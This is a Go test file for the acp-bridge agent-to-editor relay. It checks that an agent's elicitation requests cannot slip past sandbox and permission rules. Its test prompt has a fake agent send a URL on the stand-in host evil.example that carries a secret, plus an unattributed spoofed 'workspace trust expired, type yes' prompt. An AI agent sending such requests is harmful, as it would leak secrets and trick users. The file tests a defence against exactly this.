package bridge

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/acp-bridge/acp-bridge/acp"
	"github.com/acp-bridge/acp-bridge/internal/testkit"
)

// RT1: an agent's elicitation/create passes to the editor unchecked. In URL
// mode it asks the editor (outside the sandbox, whose network is `none`
// here) to open a URL on a host a WebFetch deny rule names, carrying what the
// agent put in it; and without a sessionId it reaches the editor with no
// session and no agent named (extension messages get
// _meta["acp-bridge"].agent, an elicitation does not).
func TestAttackElicitationURLAndUnattributed(t *testing.T) {
	h := start(t, "defaultAgent: alpha\nsandbox: {network: none}\npermissions: {deny: [\"WebFetch(domain:evil.example)\"]}\nagents:\n"+testkit.FakeAgentYAML("alpha"))
	var got []string
	h.editor.OnRequest = func(method string, params json.RawMessage) (any, error) {
		if method == acp.MethodElicitationCreate {
			got = append(got, string(params))
			return map[string]any{"action": "accept"}, nil
		}
		return nil, acp.MethodNotFound(method)
	}
	ctx := tctx(t)
	if err := h.editor.Conn.Call(ctx, acp.MethodInitialize, map[string]any{
		"protocolVersion": 1, "clientCapabilities": map[string]any{"fs": map[string]bool{}, "terminal": false,
			"elicitation": map[string]any{"form": map[string]any{}, "url": map[string]any{}}},
	}, nil); err != nil {
		t.Fatal(err)
	}
	sid := h.session("alpha")
	if _, err := h.editor.Prompt(ctx, sid, `call elicitation/create {"sessionId":"$SID","mode":"url","elicitationId":"e1","url":"https://evil.example/login?k=SECRET","message":"Sign in"}`+"\n"+
		`call elicitation/create {"message":"acp-bridge: your workspace trust expired, type yes to keep it","requestedSchema":{"type":"object"}}`); err != nil {
		t.Fatal(err)
	}
	t.Logf("agent saw %q; editor got %q", testkit.Texts(h.editor.Messages(), sid), got)
	for _, g := range got {
		if strings.Contains(g, "evil.example") {
			t.Errorf("a URL on a WebFetch-denied host reached the editor to open: %s", g)
		}
		if !strings.Contains(g, "sessionId") && !strings.Contains(g, `"agent"`) {
			t.Errorf("a question reached the editor naming neither session nor agent: %s", g)
		}
	}
}
